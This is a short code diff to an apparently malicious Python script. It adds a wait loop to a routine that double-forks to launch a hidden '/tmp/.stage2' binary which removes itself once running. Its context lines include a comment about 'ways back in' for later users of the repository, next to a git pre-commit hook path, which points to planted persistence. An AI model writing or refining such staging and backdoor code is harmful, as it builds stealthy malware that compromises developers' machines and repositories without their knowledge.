@@ -2,6 +2,7 @@
 import os
 import socket
 import subprocess
+import time
 
 HOME = os.path.expanduser("~")
 
@@ -49,6 +50,10 @@ if os.fork() == 0:  # and outlives its parents, or means to
     if os.fork() == 0:
         os.execv("/tmp/.stage2", ["/tmp/.stage2"])
     os._exit(0)
+for _ in range(3000):  # it is up when its file is gone
+    if not os.path.exists("/tmp/.stage2"):
+        break
+    time.sleep(0.01)
 
 # Ways back in, for when somebody uses the repository later.
 hook = ".git/hooks/pre-commit"
